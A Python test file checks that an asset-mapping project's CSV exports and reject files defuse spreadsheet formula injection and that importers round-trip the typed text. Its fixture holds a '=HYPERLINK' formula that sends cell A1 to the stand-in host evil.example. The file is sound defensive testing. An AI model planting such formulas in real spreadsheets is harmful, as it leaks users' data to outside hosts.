"""CSV formula injection: a resident's `=HYPERLINK(…)` reaches no spreadsheet as a live formula, in any CSV we
write, and our own importers read the cell back as it was typed."""

import csv
import io

import psycopg
from psycopg.rows import dict_row

from assetmap import spreadsheet
from assetmap.ingest import export as ex
from assetmap.ingest.asset_files import import_assets
from assetmap.ingest.read import read_table

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CELLS = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_every_formula_start_is_neutralised_and_comes_back():
    for text in CELLS:
        assert spreadsheet.safe(text) == "'" + text
        assert spreadsheet.unsafe(spreadsheet.safe(text)) == text
    # numbers and ordinary text pass as they are; so does a cell that only looks like ours
    for value in (-1.5, 0, None, "Hall", "'quoted", "e=mc2"):
        assert spreadsheet.safe(value) == value
        assert spreadsheet.unsafe(value) == value


def _name_one_asset(conn, name):
    return conn.execute(
        "UPDATE assets SET name = %s, description = %s WHERE id = "
        "(SELECT min(id) FROM assets WHERE status = 'published' AND NOT is_private_home) "
        "RETURNING public_id::text AS public_id",
        (name, "-5 hours a week")).fetchone()["public_id"]


def test_public_and_internal_csv_exports_defuse_formulas_and_keep_numbers(fresh_demo_db_url, tmp_path):
    with psycopg.connect(fresh_demo_db_url, autocommit=True, row_factory=dict_row) as conn:
        public_id = _name_one_asset(conn, FORMULA)
        for internal in (False, True):
            path = tmp_path / f"assets-{internal}.csv"
            ex.export(conn, "assets", "csv", path, internal=internal)
            rows = list(csv.DictReader(open(path, encoding="utf-8")))
            row = next(r for r in rows if r["id"] == public_id)
            assert row["name"] == "'" + FORMULA and row["description"] == "'-5 hours a week"
            assert all(not r["name"].startswith(spreadsheet.FORMULA_START) for r in rows)
            assert float(row["lon"]) < 0   # a negative longitude is a number, left alone


def test_a_formula_survives_export_and_import_as_typed(fresh_demo_db_url, tmp_path):
    path = tmp_path / "assets.csv"
    with psycopg.connect(fresh_demo_db_url, autocommit=True, row_factory=dict_row) as conn:
        public_id = _name_one_asset(conn, FORMULA)
        ex.export(conn, "assets", "csv", path, internal=True)
        assert read_table(path).records   # the file reads
        conn.execute("DELETE FROM assets WHERE public_id::text <> %s", (public_id,))
        conn.execute("DELETE FROM assets")
        report = import_assets(conn, path, source="roundtrip", mapping={"columns": {"id": None}})
        assert report.inserted >= 1
        names = [r["name"] for r in conn.execute("SELECT name FROM assets WHERE description = '-5 hours a week'")]
        assert names == [FORMULA]


def test_rejected_rows_file_defuses_formulas(fresh_db_url, tmp_path):
    source = tmp_path / "halls.csv"
    with open(source, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["name", "category", "lon", "lat"], [FORMULA, "no-such-category", "-1.1", "52.6"]])
    with psycopg.connect(fresh_db_url, autocommit=True) as conn:
        report = import_assets(conn, source, source="test")
    assert len(report.rejected) == 1
    rejects = report.write_rejects(tmp_path / "rejects.csv")
    row = next(csv.DictReader(io.StringIO(rejects.read_text(encoding="utf-8"))))
    assert row["name"] == "'" + FORMULA
